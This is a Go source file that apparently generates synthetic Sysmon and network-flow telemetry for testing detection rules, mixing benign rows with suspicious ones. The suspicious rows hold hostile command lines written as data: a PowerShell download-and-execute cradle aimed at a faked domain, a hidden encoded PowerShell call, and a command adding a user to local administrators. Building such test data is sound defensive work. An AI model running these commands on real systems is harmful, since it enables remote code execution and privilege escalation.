// oreon/defense · watchthelight <wtl>

// Package synth generates sample telemetry in the column layouts of the
// common vendor exports, mixing benign activity with rows each rule
// should flag.
package synth

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/brianvoe/gofakeit/v7"

	"github.com/oreonproject/detect/internal/table"
)

// SysmonColumns mirror an Export-Csv of Sysmon process-creation events.
var SysmonColumns = []string{"TimeCreated", "EventID", "Computer", "User", "Image", "CommandLine"}

// CICFlowColumns mirror CICFlowMeter output, leading spaces included.
var CICFlowColumns = []string{
	"Flow ID", " Source IP", " Source Port", " Destination IP",
	" Destination Port", " Protocol", " Timestamp", " Flow Duration", " Label",
}

const (
	sysmonTimeLayout = "2006-01-02 15:04:05.000"
	cicTimeLayout    = "1/2/2006 15:04:05"
)

// Options controls a generation run.
type Options struct {
	Hosts int
	Flows int

	// Seed makes output reproducible; zero picks a random seed.
	Seed uint64

	// SuspiciousRatio is the share of rows built to trigger a rule.
	SuspiciousRatio float64

	Start time.Time
	Span  time.Duration
}

// DefaultOptions returns a small mixed sample over one day.
func DefaultOptions() Options {
	return Options{
		Hosts:           200,
		Flows:           500,
		SuspiciousRatio: 0.1,
		Start:           time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
		Span:            24 * time.Hour,
	}
}

// Generator builds telemetry tables from a seeded faker.
type Generator struct {
	faker    *gofakeit.Faker
	opts     Options
	hosts    []string
	accounts []string
}

// New creates a generator for opts.
func New(opts Options) *Generator {
	if opts.Span <= 0 {
		opts.Span = 24 * time.Hour
	}
	if opts.Start.IsZero() {
		opts.Start = DefaultOptions().Start
	}
	g := &Generator{faker: gofakeit.New(opts.Seed), opts: opts}
	for i := 0; i < 8; i++ {
		g.hosts = append(g.hosts, fmt.Sprintf("WS-%s.corp.local", strings.ToUpper(g.faker.LetterN(5))))
		g.accounts = append(g.accounts, `CORP\`+g.faker.Username())
	}
	return g
}

func (g *Generator) when() time.Time {
	return g.faker.DateRange(g.opts.Start, g.opts.Start.Add(g.opts.Span)).UTC()
}

func (g *Generator) suspicious() bool {
	return g.faker.Float64() < g.opts.SuspiciousRatio
}

var benignCommands = []string{
	`C:\Windows\System32\svchost.exe -k netsvcs -p`,
	`C:\Windows\explorer.exe`,
	`"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc`,
	`C:\Windows\System32\notepad.exe C:\Users\Public\todo.txt`,
	`cmd.exe /c dir C:\Users`,
	`C:\Windows\System32\taskhostw.exe`,
}

// HostEvents returns opts.Hosts Sysmon-style rows.
func (g *Generator) HostEvents() *table.Table {
	t := table.New(SysmonColumns)
	for i := 0; i < g.opts.Hosts; i++ {
		eventID, image, cmd := "1", `C:\Windows\System32\cmd.exe`, g.faker.RandomString(benignCommands)
		if g.suspicious() {
			eventID, image, cmd = g.suspiciousHost()
		}
		t.Rows = append(t.Rows, []string{
			g.when().Format(sysmonTimeLayout),
			eventID,
			g.faker.RandomString(g.hosts),
			g.faker.RandomString(g.accounts),
			image,
			cmd,
		})
	}
	return t
}

func (g *Generator) suspiciousHost() (eventID, image, cmd string) {
	const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	switch g.faker.IntRange(0, 4) {
	case 0:
		return "1", ps, "powershell.exe -NoP -W Hidden -EncodedCommand " + g.faker.LetterN(120)
	case 1:
		return "1", ps, fmt.Sprintf("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", g.faker.DomainName())
	case 2:
		return "1", `C:\Windows\System32\net.exe`, "net localgroup administrators " + g.faker.Username() + " /add"
	case 3:
		return "1", `C:\Windows\System32\runas.exe`, `runas /user:Administrator cmd.exe`
	default:
		return g.faker.RandomString([]string{"4672", "4728", "4732"}), "", ""
	}
}

var (
	benignFlowPorts = []int{80, 443, 53, 22, 3389}
	c2FlowPorts     = []int{4444, 6667, 8080, 31337}
	publicFirst     = []int{8, 23, 34, 52, 104, 142, 151, 185}
)

func (g *Generator) privateIP() string {
	return fmt.Sprintf("192.168.%d.%d", g.faker.IntRange(0, 20), g.faker.IntRange(2, 254))
}

func (g *Generator) publicIP() string {
	first := publicFirst[g.faker.IntRange(0, len(publicFirst)-1)]
	return fmt.Sprintf("%d.%d.%d.%d", first, g.faker.IntRange(0, 255), g.faker.IntRange(0, 255), g.faker.IntRange(1, 254))
}

// Flows returns opts.Flows CICFlowMeter-style rows.
func (g *Generator) Flows() *table.Table {
	t := table.New(CICFlowColumns)
	for i := 0; i < g.opts.Flows; i++ {
		src := g.privateIP()
		dst, port, label := g.publicIP(), benignFlowPorts[g.faker.IntRange(0, len(benignFlowPorts)-1)], "BENIGN"
		switch {
		case g.suspicious():
			port, label = c2FlowPorts[g.faker.IntRange(0, len(c2FlowPorts)-1)], "Bot"
			if g.faker.Bool() {
				port, label = g.faker.IntRange(10000, 60000), "PortScan"
			}
		case g.faker.Bool():
			dst, port = g.privateIP(), g.faker.IntRange(1, 65535)
		}
		srcPort := g.faker.IntRange(49152, 65535)
		proto := "6"
		if port == 53 {
			proto = "17"
		}
		t.Rows = append(t.Rows, []string{
			fmt.Sprintf("%s-%s-%d-%d-%s", src, dst, srcPort, port, proto),
			src,
			strconv.Itoa(srcPort),
			dst,
			strconv.Itoa(port),
			proto,
			g.when().Format(cicTimeLayout),
			strconv.Itoa(g.faker.IntRange(1, 120000000)),
			label,
		})
	}
	return t
}
